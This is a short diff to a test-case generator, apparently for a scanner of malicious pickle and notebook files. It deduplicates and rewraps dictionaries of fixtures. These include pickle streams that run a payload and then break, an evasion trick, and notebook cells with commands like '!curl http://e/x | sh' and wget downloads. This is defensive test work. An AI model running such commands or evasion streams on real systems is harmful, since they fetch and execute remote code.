@@ -187,8 +187,8 @@ def broken_streams() -> Iterator[Case]:
     """5: the payload runs, then the stream breaks (nullifAI)."""
     for name, tail in {
         "truncated": b"", "bad-opcode": b"\xff\xff", "underflow": b"000000.",
-        "truncated": b"", "bad-opcode": b"\xff\xff", "underflow": b"000000.",
-        "bad-proto": b"\x80\x63", "missing-memo": b"h\x63.", "long-text": b"X\xff\xff\xff\x7f", "no-mark": b"t.",
+        "bad-proto": b"\x80\x63", "missing-memo": b"h\x63.",
+        "long-text": b"X\xff\xff\xff\x7f", "no-mark": b"t.",
     }.items():  # fmt: skip
         yield "broken stream", f"{name}.pkl", SYSTEM[:-1] + tail
         yield "broken stream", f"{name}.bin", SYSTEM[2:-1] + tail
@@ -474,8 +474,8 @@ def other_formats() -> Iterator[Case]:
         yield "other format", f"{name}.py", source.encode()
     for name, cell in {
         "shell": "!curl http://e/x | sh", "magic": "%%bash\nwget http://e/x",
-        "shell": "!curl http://e/x | sh", "magic": "%%bash\nwget http://e/x",
-        "python": sources["exec"], "assigned": "out = !bash -c id", "indented": "if True:\n    !wget e",
+        "python": sources["exec"], "assigned": "out = !bash -c id",
+        "indented": "if True:\n    !wget e",
     }.items():  # fmt: skip
         cells = [{"cell_type": "code", "source": cell}]
         yield "other format", f"{name}.ipynb", json.dumps({"nbformat": 4, "cells": cells}).encode()
